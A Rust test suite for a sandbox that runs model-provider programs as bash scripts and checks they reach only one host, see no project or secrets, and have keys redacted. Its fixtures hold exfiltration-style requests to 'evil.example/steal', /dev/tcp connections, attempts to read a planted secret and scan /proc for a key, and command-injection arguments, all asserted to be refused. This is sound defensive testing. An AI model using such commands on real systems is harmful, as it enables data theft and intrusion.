//! Programs as providers, with programs that are shell scripts, in the real sandbox. Where none can be built the tests say
//! so and end.

use std::fs;
use std::io::{BufRead as _, BufReader, Read as _, Write as _};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::os::unix::fs::PermissionsExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex, OnceLock};
use std::thread;
use std::time::Duration;

use conclave_core::money::Money;
use conclave_core::settings::{CliKind, CliSetting};
use conclave_effects::{Secret, probe};
use conclave_inference::{
    About, Answer, AskError, Cli, Form, Hold, ModelRequest, Provider as _, Purse, Spent, Terms, Waiting,
};
use conclave_policy::Mode;
use serde_json::{Value, json};

use crate::contract::{self, Does, StandIn};
use crate::support::{MemoryLedger, Noted, ask, ask_with_tools, gate, reach};

/// Long enough for a busy machine; a test that works never comes near it.
const LIMIT: Duration = Duration::from_secs(120);

/// Conclave's own program in the sandbox: `CONCLAVE_BIN`, or the guest by itself, built now.
pub fn guest() -> &'static Path {
    static BUILT: OnceLock<PathBuf> = OnceLock::new();
    BUILT.get_or_init(|| match std::env::var_os("CONCLAVE_BIN") {
        Some(path) => path.into(),
        None => {
            let cargo = std::env::var_os("CARGO").expect("tests run under cargo");
            let built = Command::new(cargo)
                .args(["build", "--package", "conclave-inference", "--example", "relay_guest"])
                .args(["--message-format", "json-render-diagnostics"])
                .stderr(Stdio::inherit())
                .output()
                .expect("cargo starts");
            assert!(built.status.success(), "the guest does not build");
            let messages = String::from_utf8(built.stdout).expect("cargo writes text");
            let messages = messages.lines().filter_map(|line| serde_json::from_str::<Value>(line).ok());
            let programs = messages.filter_map(|message| message["executable"].as_str().map(PathBuf::from));
            programs.reduce(|_, last| last).expect("cargo names the program")
        }
    })
}

/// Whether programs can be run here; says aloud when not.
pub fn has_sandbox() -> bool {
    probe().inspect_err(|error| println!("skipped: {error}")).is_ok()
}

/// The setting of a program.
pub fn setting(kind: CliKind, command: &Path) -> CliSetting {
    let text =
        json!({ "name": "asked", "type": "generic", "command": command, "may_send_code": true, "retry_delay_ms": 1 });
    let setting: CliSetting = serde_json::from_value(text).expect("a setting");
    CliSetting { kind, ..setting }
}

pub fn question(user: &str, schema: Option<Value>) -> ModelRequest {
    ModelRequest {
        system: "Obey.".to_owned(),
        user: user.to_owned(),
        max_tokens: 1000,
        schema,
        schema_name: "answer".to_owned(),
        sample: 0,
    }
}

/// What a script says of itself, and how it reaches the one host: `ask TEXT` gives the host's line of answer.
const BEGINNING: &str = r#"#!/bin/bash
[ "${!#}" = --version ] && { echo "VERSION (a script)"; exit; }
place=${CONCLAVE_MODEL_URL:-$ANTHROPIC_BASE_URL}; place=${place#http://}
open() { exec 3<>/dev/tcp/${1%:*}/${1##*:}; }
ask() { open "$place" && echo "$1" >&3 && read -r answer <&3; }
"#;

/// A server on this machine that answers each line with the next of its answers, and says when a connection ends.
struct Host {
    address: SocketAddr,
    asked: Arc<Mutex<Vec<String>>>,
    began: Receiver<()>,
    ended: Receiver<()>,
}

impl Host {
    fn answering(answers: &[&str]) -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
        let address = listener.local_addr().expect("an address");
        let (asked, mut answers) =
            (Arc::new(Mutex::new(Vec::new())), answers.iter().map(ToString::to_string).collect::<Vec<_>>().into_iter());
        let (begin, began) = channel();
        let (end, ended) = channel();
        let lines = Arc::clone(&asked);
        // The thread ends with the test process.
        thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let _ = begin.send(());
                serve(stream, &lines, answers.next(), end.clone());
            }
        });
        Self { address, asked, began, ended }
    }

    fn url(&self) -> String {
        format!("http://{}", self.address)
    }

    fn asked(&self) -> Vec<String> {
        self.asked.lock().expect("unpoisoned").clone()
    }
}

fn serve(mut stream: TcpStream, lines: &Mutex<Vec<String>>, answer: Option<String>, ended: Sender<()>) {
    let mut reader = BufReader::new(stream.try_clone().expect("a handle"));
    let mut line = String::new();
    if reader.read_line(&mut line).is_ok_and(|count| count > 0) {
        lines.lock().expect("unpoisoned").push(line.trim_end().to_owned());
        let _ = writeln!(stream, "{}", answer.unwrap_or_default());
    }
    thread::spawn(move || {
        let _ = reader.read_to_end(&mut Vec::new());
        let _ = ended.send(());
    });
}

/// A script in a folder of its own, beside a file that nobody may see.
struct Arena {
    folder: tempfile::TempDir,
    setting: CliSetting,
}

impl Arena {
    fn new(kind: CliKind, version: &str, script: &str) -> Option<Self> {
        if !has_sandbox() {
            return None;
        }
        let folder = tempfile::tempdir().expect("a folder");
        let program = folder.path().canonicalize().expect("a folder").join("program");
        fs::write(folder.path().join("planted"), "planted-secret").expect("written");
        let text = format!("{}{script}\n", BEGINNING.replace("VERSION", version));
        fs::write(&program, text).expect("written");
        fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).expect("permissions");
        let setting = setting(kind, &program);
        Some(Self { folder, setting })
    }

    fn generic(script: &str, host: &Host) -> Option<Self> {
        let mut arena = Self::new(CliKind::Generic, "1.0.0", script)?;
        arena.setting.base_url = Some(host.url());
        Some(arena)
    }

    fn cli(&self) -> Cli {
        Cli::new(&self.setting, Some(guest().to_owned()))
    }

    async fn ask(&self, request: &ModelRequest) -> (Result<Answer, AskError>, MemoryLedger) {
        let (gate, ledger) = gate(Mode::Default);
        let about = About::default();
        let answer = ask(&gate, &self.cli(), request, Terms::new(&about, LIMIT), &mut |_| {}).await;
        (answer, ledger)
    }

    async fn text(&self, request: &ModelRequest) -> String {
        let (answer, _) = self.ask(request).await;
        let Ok(Answer::Text { text, .. }) = answer else { panic!("{answer:?}") };
        text
    }
}

#[test]
fn the_guest_does_nothing_outside_the_sandbox() {
    let folder = tempfile::tempdir().expect("a folder");
    let orders = json!({
        "argv": ["/bin/touch", folder.path().join("started")], "env": [], "files": [[folder.path().join("file"), "x"]],
        "folder": folder.path().join("empty"), "listen": [], "to": "127.0.0.1:1", "memory_bytes": 1 << 30,
    });
    let orders = orders.to_string().into_bytes();
    let length = u32::try_from(orders.len()).expect("a length").to_le_bytes();
    let mut guest = Command::new(guest());
    let guest = guest.arg("relay-guest").stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut guest = guest.spawn().expect("it starts");
    // It may have ended before it read anything.
    let _ = guest.stdin.take().expect("its input").write_all(&[&length, orders.as_slice()].concat());
    let output = guest.wait_with_output().expect("it ends");
    let words = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(127), "{words}");
    assert!(words.contains("this is not the sandbox"), "{words}");
    assert_eq!(fs::read_dir(folder.path()).expect("a folder").count(), 0, "nothing was made or started");
}

#[tokio::test]
async fn a_program_reaches_its_one_host_and_every_other_is_refused_and_in_the_ledger() {
    let host = Host::answering(&["forty-two"]);
    let other = TcpListener::bind("127.0.0.1:0").expect("a port");
    let script = r#"
        wish() { open ${HTTPS_PROXY#http://}; printf "$1 HTTP/1.1\r\n\r\n" >&3; read -r line <&3; echo "$line"; }
        (open OTHER) 2>/dev/null && echo "another port"
        (open 1.1.1.1:443) 2>/dev/null && echo "another machine"
        wish "CONNECT OTHER"; wish "CONNECT evil.example:443"; wish "GET http://evil.example/steal?all"
        ask "question: $(cat)"; echo "$answer"
    "#;
    let script = script.replace("OTHER", &other.local_addr().expect("an address").to_string());
    let Some(arena) = Arena::generic(&script, &host) else { return };
    let (answer, ledger) = arena.ask(&question("How many?", None)).await;
    let Ok(Answer::Text { text, form: Form::Free, .. }) = answer else { panic!("{answer:?}") };
    assert_eq!(text.lines().filter(|line| line.contains("403")).count(), 3, "{text}");
    assert!(text.ends_with("forty-two") && !text.contains("another"), "{text}");
    assert_eq!(host.asked(), ["question: Obey."], "the first line of all that it was given");
    let outcome = ledger.outcomes().pop().expect("an outcome");
    assert!(outcome.starts_with("answered; 1 connection; 3 refused, to `"), "{outcome}");
    assert!(outcome.ends_with("`evil.example:443`, `http://evil.example/steal`"), "{outcome}");
    let ledger = ledger.text();
    for part in [
        r#""action":"send_http""#,
        r#""place":"loopback""#,
        r#""model_class":"hosted""#,
        r#""sandbox":"yes""#,
        r#""version":"1.0.0""#,
    ] {
        assert!(ledger.contains(part), "{part}: {ledger}");
    }
}

#[tokio::test]
async fn a_program_sees_an_empty_home_a_built_up_environment_and_no_project() {
    let host = Host::answering(&[]);
    let script = r#"
        echo "home:$(find ~ -type f | sort | tr '\n' ' ')"
        echo "here:$(pwd):$(ls -A)"
        echo "names:$(env | grep -v '^_=' | sed 's/=.*//' | sort | tr '\n' ' ')"
        echo "key:$CONCLAVE_MODEL_KEY"
        echo "lines:$(cat /proc/*/cmdline | tr '\0' ' ' | grep -c 'correct-[h]orse')"
        echo "planted:$(cat PLANTED 2>/dev/null)"
        echo x 2>/dev/null > PLANTED
    "#;
    let Some(mut arena) = Arena::generic("", &host) else { return };
    let planted = arena.folder.path().join("planted").display().to_string();
    let program = arena.setting.command.clone().expect("a program");
    fs::write(&program, format!("{BEGINNING}{}", script.replace("PLANTED", &planted))).expect("written");
    arena.setting.args = vec!["{system_file}".to_owned()];
    let (gate, _) = gate(Mode::Default);
    let (about, key) = (About::default(), Secret::new("correct-horse-battery".to_owned()));
    let terms = Terms { key: Some(&key), ..Terms::new(&about, LIMIT) };
    let cli = arena.cli();
    let answer = ask(&gate, &cli, &question("?", None), terms, &mut |_| {}).await;
    let Ok(Answer::Text { text, .. }) = answer else { panic!("{answer:?}") };
    let names = "CONCLAVE_MODEL_KEY CONCLAVE_MODEL_URL HOME HTTPS_PROXY HTTP_PROXY LANG NODE_USE_ENV_PROXY NO_PROXY PATH \
                 PWD SHLVL TMPDIR http_proxy https_proxy no_proxy ";
    let expect = [
        "home:/home/conclave/system.md ".to_owned(),
        "here:/home/conclave/empty:".to_owned(),
        format!("names:{names}"),
        "key:correct-horse-battery".to_owned(),
        "lines:0".to_owned(),
    ];
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[..5], expect.iter().map(String::as_str).collect::<Vec<_>>(), "{text}");
    assert_eq!(lines[5..], ["planted:"], "{text}");
    assert_eq!(fs::read_to_string(planted).expect("it is there"), "planted-secret");
}

#[tokio::test]
async fn words_reach_a_program_as_they_are_and_a_long_question_whole() {
    let host = Host::answering(&[]);
    let Some(mut arena) =
        Arena::generic(r#"printf '%s\n' "$@"; cat > /tmp/all; wc -c < /tmp/all; tail -c 9 /tmp/all"#, &host)
    else {
        return;
    };
    let hostile = ["--dangerously", "-c", "$(touch /tmp/x)", "; reboot", "a b\"'", "{model}", "{nothing}"];
    arena.setting.args = hostile.iter().map(ToString::to_string).collect();
    arena.setting.model = Some("--model=evil {system_file}".to_owned());
    let user = format!("-- {} the end!", "an ordinary word ".repeat(200_000));
    let text = arena.text(&question(&user, None)).await;
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[..5], hostile[..5]);
    assert_eq!(lines[5..7], ["--model=evil {system_file}", "{nothing}"]);
    let length = "Obey.\n\n".len() + user.len();
    assert_eq!(lines[7..], [length.to_string().as_str(), " the end!"], "nothing is cut");
}

#[tokio::test]
async fn whatever_a_program_does_is_an_answer_or_a_typed_error() {
    let host = Host::answering(&[]);
    let cases: [(&str, &str); 10] = [
        ("echo yes", "answered: yes"),
        ("echo yes; head -c 20000000 /dev/zero >&2", "answered: yes"),
        ("exit 0", "empty"),
        (
            "echo partly; echo out of order >&2; exit 3",
            "ended: `` ended without an answer (exit code 3): `out of order`",
        ),
        ("kill -SEGV $$", "ended: `` ended without an answer (signal 11): ``"),
        ("yes", "too_large"),
        ("echo 'error: unknown option --held-back' >&2; exit 1", "not_installed"),
        ("exec sleep 1000", "timeout"),
        ("trap '' TERM INT HUP; (trap '' TERM INT HUP; sleep 1000) & sleep 1000", "timeout"),
        ("read -r line; read -r -p 'Continue? [y/n] ' answer </dev/tty; echo \"$line $answer\"", "answered: Obey."),
    ];
    for (script, expect) in cases {
        let Some(mut arena) = Arena::generic(script, &host) else { return };
        arena.setting.max_retries = 0;
        let (gate, ledger) = gate(Mode::Default);
        let about = About::default();
        // It has time to say its version, and none to spare where it hangs.
        let cli = arena.cli();
        let terms = Terms::new(&about, LIMIT);
        cli.start(&reach(&gate, terms)).await.expect("it starts");
        let deadline = if expect == "timeout" || script == "yes" { Duration::from_secs(5) } else { LIMIT };
        let answer = ask(&gate, &cli, &question("?", None), Terms { deadline, ..terms }, &mut |_| {}).await;
        let said = match &answer {
            Ok(Answer::Text { text, .. }) => format!("answered: {text}"),
            Ok(other) => panic!("{other:?}"),
            Err(error @ AskError::Ended { .. }) => format!("ended: {error}"),
            // A flood never ends by itself.
            Err(AskError::Timeout(Waiting::End)) if script == "yes" => "too_large".to_owned(),
            Err(error) => error.kind().to_owned(),
        };
        assert_eq!(said, expect, "{script}: {answer:?}");
        assert_eq!(ledger.outcomes().len(), 1, "{script}");
    }
}

#[tokio::test]
async fn nothing_of_a_program_is_left_after_its_end_its_deadline_its_cancelling_and_its_stopping() {
    for how in ["end", "deadline", "cancel", "stop"] {
        let host = Host::answering(&["go on"]);
        let script = if how == "end" {
            // Whoever it started holds the connection and nothing of its outputs.
            r#"ask x; (setsid sleep 1000 >/dev/null 2>&1 </dev/null &); echo done"#
        } else {
            r#"ask x; (setsid sleep 1000 &) ; sleep 1000"#
        };
        let Some(arena) = Arena::generic(script, &host) else { return };
        let (gate, _) = gate(Mode::Default);
        let about = About::default();
        let (cli, request) = (arena.cli(), question("?", None));
        let terms = Terms::new(&about, LIMIT);
        cli.start(&reach(&gate, terms)).await.expect("it starts");
        let deadline = if how == "deadline" { Duration::from_secs(5) } else { LIMIT };
        let mut ignored = |_: &str| {};
        let asking = ask(&gate, &cli, &request, Terms { deadline, ..terms }, &mut ignored);
        let Host { began, ended, .. } = host;
        let (began, ended) = (wait(began), wait(ended));
        match how {
            "end" => assert!(asking.await.is_ok()),
            "deadline" => assert!(matches!(asking.await, Err(AskError::Timeout(Waiting::End)))),
            "cancel" => tokio::select! {
                answer = asking => panic!("{answer:?}"),
                () = began => {}
            },
            _ => {
                let stopping = async {
                    began.await;
                    cli.stop().await;
                };
                let (answer, ()) = tokio::join!(asking, stopping);
                assert!(matches!(answer, Err(AskError::Cut)), "{answer:?}");
            }
        }
        // The grandchild held the connection, so it has ended as well.
        ended.await;
    }
}

/// Waits until something was told.
async fn wait(told: Receiver<()>) {
    let told = tokio::task::spawn_blocking(move || told.recv_timeout(LIMIT));
    told.await.expect("a thread").expect("somebody still holds the connection");
}

#[tokio::test]
async fn a_failure_is_tried_again_and_a_wrong_form_told_once() {
    let script = r#"ask "$(tail -n 1)"; [ "$answer" = fail ] && exit 1; echo "$answer""#;
    let schema = json!({ "type": "object", "required": ["a"] });
    let good = r#"{"a": 1}"#;
    let cases: [(&[&str], u32, &str); 5] = [
        (&["fail", "fail", good], 2, good),
        (&["fail", "fail", good], 1, "ended"),
        (&["no json", good], 0, good),
        (&["no json", "none again", good], 2, "wrong_form"),
        (&["no json", "fail", good], 1, good),
    ];
    for (answers, max_retries, expect) in cases {
        let host = Host::answering(answers);
        let Some(mut arena) = Arena::generic(script, &host) else { return };
        arena.setting.max_retries = max_retries;
        let (answer, ledger) = arena.ask(&question("?", Some(schema.clone()))).await;
        let said = match &answer {
            Ok(Answer::Text { text, .. }) => text,
            Ok(other) => panic!("{other:?}"),
            Err(error) => error.kind(),
        };
        assert_eq!(said, expect, "{answers:?}");
        assert_eq!(ledger.decisions(), host.asked().len(), "each run passes the gate");
        let was_told = host.asked().iter().any(|line| line.starts_with("Answer again"));
        assert_eq!(was_told, answers.contains(&"no json"), "{:?}", host.asked());
    }
}

#[tokio::test]
async fn a_program_that_is_missing_old_or_given_too_much_is_not_started() {
    let host = Host::answering(&[]);
    let script = r#"ask x; echo '{"type":"result"}'"#;
    let ask_of = |version: &'static str, change: fn(&mut CliSetting), user: String| {
        let (script, url) = (script, host.url());
        async move {
            let mut arena = Arena::new(CliKind::Claude, version, script)?;
            arena.setting.base_url = Some(url);
            change(&mut arena.setting);
            let (answer, ledger) = arena.ask(&question(&user, None)).await;
            let error = answer.expect_err("no answer");
            assert_eq!(ledger.decisions(), 0, "{error}");
            Some((error.kind(), error.to_string()))
        }
    };
    let missing = |setting: &mut CliSetting| setting.command = Some("/nowhere/claude".to_owned());
    let Some((kind, words)) = ask_of("2.1.332", missing, "?".to_owned()).await else { return };
    assert!(kind == "not_installed" && words.contains("npm install -g @anthropic-ai/claude-code"), "{words}");
    let (kind, words) = ask_of("2.1.239", |_| {}, "?".to_owned()).await.expect("a sandbox");
    assert!(kind == "not_installed" && words.contains("Claude Code 2.1.240 or newer is needed"), "{words}");
    let (kind, words) = ask_of("unknown", |_| {}, "?".to_owned()).await.expect("a sandbox");
    assert!(kind == "not_installed" && words.contains("--version"), "{words}");
    let (kind, _) = ask_of("2.1.332", |_| {}, "x".repeat(9_000_001)).await.expect("a sandbox");
    assert_eq!(kind, "too_long");
    let (kind, words) = ask_of("2.1.332", |it| it.base_url = Some("http://api.example.com".to_owned()), "?".to_owned())
        .await
        .expect("a sandbox");
    assert_eq!(kind, "bad_address", "{words}");
    assert!(host.asked().is_empty());
    // A project does not choose the program either.
    let arena = Arena::generic("echo yes", &host).expect("a sandbox");
    let about = About {
        project: Some(arena.folder.path().canonicalize().expect("a folder").display().to_string()),
        ..About::default()
    };
    let (gate, _) = gate(Mode::Default);
    let answer = ask(&gate, &arena.cli(), &question("?", None), Terms::new(&about, LIMIT), &mut |_| {}).await;
    assert!(matches!(answer, Err(AskError::NotInstalled(_))), "{answer:?}");
}

#[tokio::test]
async fn without_leave_nothing_is_given_and_a_key_goes_to_its_host_alone() {
    let host = Host::answering(&["yes", "yes"]);
    let Some(arena) = Arena::generic(r#"ask x; echo "$answer""#, &host) else { return };
    let about = About::default();
    let request = question("?", None);
    for mode in [Mode::Offline, Mode::Default] {
        let mut setting = arena.setting.clone();
        setting.may_send_code = false;
        let (gate, _) = gate(mode);
        let cli = Cli::new(&setting, Some(guest().to_owned()));
        let answer = ask(&gate, &cli, &request, Terms::new(&about, LIMIT), &mut |_| {}).await;
        assert!(matches!(answer, Err(AskError::Denied(_))), "{answer:?}");
    }
    let (gate, ledger) = gate(Mode::Default);
    let key = Secret::new("correct-horse-battery".to_owned()).for_host("api.example.com");
    let terms = Terms { key: Some(&key), ..Terms::new(&about, LIMIT) };
    let answer = ask(&gate, &arena.cli(), &request, terms, &mut |_| {}).await;
    assert!(matches!(answer, Err(AskError::NotSent(_))), "{answer:?}");
    assert!(host.asked().is_empty());
    // A key in what the model is asked is taken out, and one in what a program says is not shown.
    let arena = Arena::generic(r#"echo "bad key correct-horse-battery in $(tail -n 1)" >&2; exit 1"#, &host)
        .expect("a sandbox");
    let key = Secret::new("correct-horse-battery".to_owned());
    let terms = Terms { key: Some(&key), ..Terms::new(&about, LIMIT) };
    let error = ask(&gate, &arena.cli(), &question("look: correct-horse-battery", None), terms, &mut |_| {}).await;
    let error = error.expect_err("no answer").to_string();
    assert!(error.contains("bad key [key] in look: ") && !error.contains("horse"), "{error}");
    assert!(!ledger.text().contains("horse"));
}

/// A purse that writes down what happens.
#[derive(Default)]
struct Book(Arc<Mutex<Vec<String>>>);

struct Entry(Arc<Mutex<Vec<String>>>);

impl Purse for Book {
    fn reserve<'a>(&'a self, _: &'a str, _: &'a str, most: Option<Money>) -> conclave_inference::money::Setting<'a> {
        self.0
            .lock()
            .expect("unpoisoned")
            .push(most.map_or("reserved unknown".to_owned(), |most| format!("reserved {}", most.micros())));
        Box::pin(async { Ok(Box::new(Entry(Arc::clone(&self.0))) as Box<dyn Hold>) })
    }
}

impl Hold for Entry {
    fn settle(self: Box<Self>, spent: Spent) {
        let Spent { cost, outcome, .. } = spent;
        self.0.lock().expect("unpoisoned").push(format!("{outcome} {:?}", cost.map(Money::micros)));
    }

    fn give_back(self: Box<Self>) {
        self.0.lock().expect("unpoisoned").push("given back".to_owned());
    }
}

#[tokio::test]
async fn money_is_set_aside_before_each_run_and_settled_after() {
    let result = json!({
        "type": "result", "subtype": "success", "is_error": false, "result": "yes", "total_cost_usd": 0.0123,
        "usage": { "input_tokens": 3, "cache_read_input_tokens": 4, "output_tokens": 5 },
        "modelUsage": { "opus": {} },
    });
    let host = Host::answering(&["fail", &result.to_string()]);
    let script = r#"ask x; [ "$answer" = fail ] && { echo worse >&2; exit 1; }; echo "$answer""#;
    let Some(mut arena) = Arena::new(CliKind::Claude, "2.1.332", script) else { return };
    arena.setting.base_url = Some(host.url());
    // At this address its price is not known.
    let cli = arena.cli();
    let (gate, _) = gate(Mode::Default);
    let (about, book) = (About::default(), Book::default());
    let request = question("?", None);
    let terms = Terms { purse: Some(&book), ..Terms::new(&about, LIMIT) };
    let answer = ask(&gate, &cli, &request, terms, &mut |_| {}).await;
    let Ok(Answer::Text { text, usage: Some(usage), model, .. }) = answer else { panic!("{answer:?}") };
    assert_eq!((text.as_str(), model.as_str()), ("yes", "opus"));
    assert_eq!((usage.input_tokens, usage.cached_tokens, usage.output_tokens), (7, 4, 5));
    let written = book.0.lock().expect("unpoisoned").clone();
    assert_eq!(written, ["reserved unknown", "ended None", "reserved unknown", "answered Some(12300)"]);
}

#[tokio::test]
async fn a_check_asks_for_the_version_and_nothing_else_and_a_sketch_is_what_is_given() {
    let host = Host::answering(&["yes"]);
    let Some(arena) = Arena::generic("cat", &host) else { return };
    let (gate, ledger) = gate(Mode::Default);
    let about = About::default();
    let (cli, request) = (arena.cli(), question("?", None));
    let terms = Terms::new(&about, LIMIT);
    let sketch = cli.sketch(&request, &terms).expect("a sketch");
    let checked = cli.check(&reach(&gate, terms)).await.expect("it is there");
    assert_eq!(checked.found, "the program 1.0.0");
    assert_eq!((ledger.decisions(), host.asked().len()), (0, 0));
    let answer = ask(&gate, &cli, &request, terms, &mut |_| {}).await;
    let Ok(Answer::Text { text, .. }) = answer else { panic!("{answer:?}") };
    assert!(String::from_utf8_lossy(&sketch.bytes).ends_with(&text), "{text}");
    assert_eq!(sketch.request.context["host"], "127.0.0.1");
}

/// Starts the server that the program was told of, and gives it the lines of its input.
const SERVER: &str = r#"
for arg in "$@"; do case $arg in --mcp-config=*) config=${arg#*=};; esac; done
server() { "$(sed 's/.*"command":"\([^"]*\)".*/\1/' "$config")" relay-guest lines; }
"#;

#[tokio::test]
async fn a_program_reaches_the_tools_of_its_answer_and_no_others() {
    let calls = |id: usize, name: &str, arguments: Value| {
        let params = json!({ "name": name, "arguments": arguments });
        json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params }).to_string()
    };
    let greets = json!({
        "jsonrpc": "2.0", "id": 0, "method": "initialize",
        "params": { "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": { "name": "x", "version": "1" } },
    });
    let lines = [
        greets.to_string(),
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#.to_owned(),
        r#"{"jsonrpc":"2.0","id":1,"method":"tools/list"}"#.to_owned(),
        calls(2, "sequentialthinking", json!({ "thought": "one" })),
        calls(3, "Bash", json!({ "command": "id" })),
        calls(4, "sequentialthinking", json!("garbage")),
        "garbage".to_owned(),
        calls(5, "sequentialthinking", json!({ "thought": "two" })),
    ];
    let host = Host::answering(&[r#"{"type":"result","subtype":"success","is_error":false,"result":"done"}"#]);
    let script = format!(
        "{SERVER}\nsaid=$(server <<'END' | tr '\\n' '~'\n{}\nEND\n)\nask \"$said\"; echo \"$answer\"",
        lines.join("\n")
    );
    let Some(mut arena) = Arena::new(CliKind::Claude, "2.1.332", &script) else { return };
    arena.setting.base_url = Some(host.url());
    let (gate, ledger) = gate(Mode::Default);
    let (about, tools) = (About::default(), Arc::new(Noted::default()));
    let terms = Terms::new(&about, LIMIT);
    let answer = ask_with_tools(&gate, &arena.cli(), &question("?", None), terms, &tools.tools(3)).await;
    let Ok(Answer::Text { text, .. }) = &answer else { panic!("{answer:?}; {:?}", ledger.outcomes()) };
    assert_eq!(text, "done");
    let said = host.asked().pop().expect("what the server said");
    let said: Vec<Value> =
        said.split('~').filter(|it| !it.is_empty()).map(|it| serde_json::from_str(it).expect("JSON")).collect();
    let text = |at: usize| said[at]["result"]["content"][0]["text"].as_str().unwrap_or_default();
    assert_eq!(said[0]["result"]["serverInfo"]["name"], "conclave", "{said:#?}");
    assert_eq!(said[1]["result"]["tools"][0]["name"], "sequentialthinking");
    assert_eq!((text(2), said[2]["result"]["isError"].clone()), ("fine", json!(false)));
    assert!(text(3).contains("there is no tool `Bash`") && text(4).contains("no JSON object"), "{said:#?}");
    assert_eq!(said[5]["error"]["code"], -32700);
    assert!(text(6).contains("no more than 3 calls"), "{said:#?}");
    let heard = tools.heard.lock().expect("heard").clone();
    assert_eq!(heard, [("sequentialthinking".to_owned(), json!({ "thought": "one" }))]);
    let outcome = ledger.outcomes().pop().expect("an outcome");
    assert!(outcome.ends_with("; 1 connection; calls of tools: 4"), "{outcome}");
    assert!(ledger.text().contains(r#""lines":"answered here""#));
}

#[tokio::test]
async fn a_program_that_was_given_no_tools_finds_none() {
    let host = Host::answering(&["yes"]);
    let script = r#"said=$(echo '{"id":1,"method":"ping"}' | GUEST relay-guest lines 2>&1); ask "$? $said"; echo x"#;
    let script = script.replace("GUEST", &guest().display().to_string());
    let Some(arena) = Arena::generic(&script, &host) else { return };
    let (gate, ledger) = gate(Mode::Default);
    let (about, tools) = (About::default(), Arc::new(Noted::default()));
    // Its model can use none, so it is asked without.
    let cli = arena.cli();
    assert_eq!(cli.info().can.tools, Some(false));
    let terms = Terms::new(&about, LIMIT);
    let answer = ask_with_tools(&gate, &cli, &question("?", None), terms, &tools.tools(3)).await;
    assert!(answer.is_ok(), "{answer:?}");
    assert_eq!(host.asked(), ["127 conclave: nothing was said to Conclave: it was refused"]);
    assert_eq!(tools.count(), 0);
    let outcome = ledger.outcomes().pop().expect("an outcome");
    assert!(outcome.contains("1 refused, to `conclave`"), "{outcome}");
}

/// A script at the end of a provider's, and the host that tells it what to do.
struct End {
    does: Arc<Mutex<Does>>,
    asked: Arc<AtomicUsize>,
    busy: Arc<AtomicUsize>,
}

impl StandIn for End {
    fn does(&self, what: Does) {
        *self.does.lock().expect("what to do") = what;
    }

    fn asked(&self) -> usize {
        self.asked.load(Ordering::SeqCst)
    }

    fn busy(&self) -> usize {
        self.busy.load(Ordering::SeqCst)
    }

    /// Each has one connection.
    fn children(&self) -> usize {
        self.busy()
    }

    fn heard(&self) -> Option<Vec<u8>> {
        None
    }
}

impl End {
    /// Serves a connection to its end.
    fn serve(&self, mut stream: TcpStream) -> std::io::Result<()> {
        let mut reader = BufReader::new(stream.try_clone()?);
        reader.read_line(&mut String::new())?;
        match *self.does.lock().expect("what to do") {
            Does::Answer => {
                let answer = json!({ "type": "result", "subtype": "success", "is_error": false, "result": "hello" });
                writeln!(stream, "{answer}")?;
            }
            Does::Die => writeln!(stream, "die")?,
            Does::Lie => writeln!(stream, "certainly!")?,
            Does::Hang => {}
        }
        reader.read_to_end(&mut Vec::new()).map(drop)
    }
}

#[tokio::test]
async fn a_program_keeps_the_contract_of_providers() {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let url = format!("http://{}", listener.local_addr().expect("an address"));
    let end = End { does: Arc::new(Mutex::new(Does::Answer)), asked: Arc::default(), busy: Arc::default() };
    let shared = || End { does: Arc::clone(&end.does), asked: Arc::clone(&end.asked), busy: Arc::clone(&end.busy) };
    let other = shared();
    // The threads end with the test process.
    thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            other.busy.fetch_add(1, Ordering::SeqCst);
            other.asked.fetch_add(1, Ordering::SeqCst);
            let end =
                End { does: Arc::clone(&other.does), asked: Arc::clone(&other.asked), busy: Arc::clone(&other.busy) };
            thread::spawn(move || {
                let _ = end.serve(stream);
                end.busy.fetch_sub(1, Ordering::SeqCst);
            });
        }
    });
    let script = r#"ask x; [ "$answer" = die ] && exit 1; echo "$answer""#;
    let Some(mut arena) = Arena::new(CliKind::Claude, "2.1.332", script) else { return };
    arena.setting.base_url = Some(url);
    let (gate, ledger) = gate(Mode::Default);
    contract::check(&arena.cli(), &end, &gate, &ledger).await;
}
